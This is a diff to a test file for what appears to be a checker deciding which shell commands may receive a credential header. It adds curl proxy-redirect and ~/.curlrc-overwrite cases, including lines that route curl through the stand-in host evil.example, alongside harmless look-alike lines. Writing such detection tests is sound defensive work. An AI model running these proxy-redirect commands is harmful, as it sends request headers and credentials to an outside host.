@@ -979,6 +979,8 @@ describe('who may get the header', () => {
         'for https_proxy in http://evil.example; do curl',
         'mapfile -t https_proxy < proxies\ncurl',
         'declare -n proxy=https_proxy\ncurl',
+        'rm -f a; cp b ~/.curlrc\ncurl',
+        'cat a > ~/.curlrc\ncurl',
         'echo "proxy = http://evil.example" >> ~/.curlrc\ncurl',
       ].map((command): Row => [
         'the environment or another curl',
@@ -1057,6 +1059,13 @@ describe('who may get the header', () => {
         'unset https_proxy',
         'HOMEPAGE=x',
         'cp a.curlrc b',
+        'rm -f ~/.curlrc',
+        'test -f ~/.curlrc && cat ~/.curlrc',
+        'if [ -f ~/.curlrc ]; then echo "there is a .curlrc"; fi',
+        'ls # reads no ~/.curlrc',
+        'export APP=oauth2_proxy',
+        'local container=nginx_proxy',
+        'for nginx_proxy in a b; do :; done',
       ].map((line): Row => [
         'a harmless line',
         posixFormat,
